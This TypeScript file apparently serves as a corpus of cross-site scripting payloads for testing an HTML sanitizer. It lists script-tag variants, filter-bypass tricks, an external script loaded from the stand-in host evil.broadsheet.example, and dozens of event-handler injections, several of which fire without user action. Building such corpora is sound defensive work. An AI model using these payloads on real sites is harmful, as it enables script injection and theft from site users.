import { CALL, family } from './payload.ts';

/** Scripts in all their kinds. */
export const scripts = family('script', [
  `<script>${CALL}</script>`,
  `<SCRIPT type="text/javascript">${CALL}</SCRIPT>`,
  `<script type="module">${CALL}</script>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<script src="https://evil.broadsheet.example/a.js" async></script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script/x>${CALL}</script/y>`,
  `<script>\n<!--\n${CALL}\n//--></script>`,
  `<script type="importmap">{"imports":{"a":"data:text/javascript,${CALL}"}}</script><script type="module">import 'a'</script>`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.broadsheet.example/next"]}]}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:text/javascript,${CALL}"/></svg>`,
  `<math><script>${CALL}</script></math>`,
]);

const events = [
  'onabort onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbeforematch onbeforetoggle onblur',
  'oncancel oncanplay onchange onclick onclose oncommand oncontentvisibilityautostatechange oncontextmenu oncopy oncut ondblclick',
  'ondrag ondrop onended onerror onfocus onfocusin onfocusout onformdata onfullscreenchange ongotpointercapture oninput oninvalid',
  'onkeydown onkeyup onload onloadstart onmousedown onmouseenter onmousemove onmouseover onpageshow onpaste onplay onpointerdown',
  'onpointerenter onpointermove onpointerrawupdate onreset onresize onscroll onscrollend onscrollsnapchange onsearch',
  'onsecuritypolicyviolation onselect onselectionchange onselectstart onslotchange onsubmit ontoggle ontouchstart ontransitionend',
  'onwebkitanimationstart onwheel',
]
  .join(' ')
  .split(' ');

/** Every event on ordinary elements, and the ways in which one fires without anybody's doing. */
export const handlers = family('handler', [
  ...events.map(
    (name) => `<p ${name}="${CALL}" tabindex="0" draggable="true">A line that waits for ${name}.</p>`,
  ),
  `<img src="nothing:here" onerror="${CALL}">`,
  `<img src=x onerror=${CALL}//`,
  `<IMG SRC=x ONERROR="${CALL}">`,
  `<img/src/onerror=${CALL}>`,
  `<img src=x:x onerror\n=\n"${CALL}">`,
  `<img src="https://pictures.broadsheet.example/boat.jpg" alt="A boat" onload="${CALL}" width="600" height="400">`,
  `<svg onload="${CALL}"></svg>`,
  `<svg><image href="x" onerror="${CALL}"/></svg>`,
  `<body onload="${CALL}" onhashchange="${CALL}" onmessage="${CALL}">`,
  `<details open ontoggle="${CALL}"><summary>More of it</summary>What stands in it.</details>`,
  `<input autofocus onfocus="${CALL}">`,
  `<textarea autofocus onfocus="${CALL}">words</textarea>`,
  `<select autofocus onfocus="${CALL}"><option>one</option></select>`,
  `<a id="x" tabindex="1" onfocus="${CALL}" autofocus>words</a>`,
  `<p style="animation: blink 1s" onanimationstart="${CALL}">words</p><style>@keyframes blink{}</style>`,
  `<p style="transition:color 1s" ontransitionend="${CALL}">words</p>`,
  `<video onloadstart="${CALL}"><source onerror="${CALL}" src="x"></video>`,
  `<audio src="x" onerror="${CALL}"></audio>`,
  `<marquee onstart="${CALL}" onfinish="${CALL}" loop="1">moving words</marquee>`,
  `<object data="x" onerror="${CALL}"></object>`,
  `<link rel="stylesheet" href="x" onerror="${CALL}">`,
  `<style onload="${CALL}"></style>`,
  `<div popover id="pop" onbeforetoggle="${CALL}">hidden words</div><button popovertarget="pop">open</button>`,
  `<button command="show-modal" commandfor="dlg" oncommand="${CALL}">open</button><dialog id="dlg" oncommand="${CALL}">words</dialog>`,
  `<x-unknown onclick="${CALL}" contenteditable onpaste="${CALL}">words in an unknown element</x-unknown>`,
  `<p on${'click'.toUpperCase()}="${CALL}" ON="x" on="">words</p>`,
  `<table background="x" onclick="${CALL}"><tr><th onclick="${CALL}">a</th><td onclick="${CALL}">b</td></tr></table>`,
  `<time datetime="2026-01-01" onclick="${CALL}">today</time> <abbr title="x" onclick="${CALL}">X</abbr>`,
]);
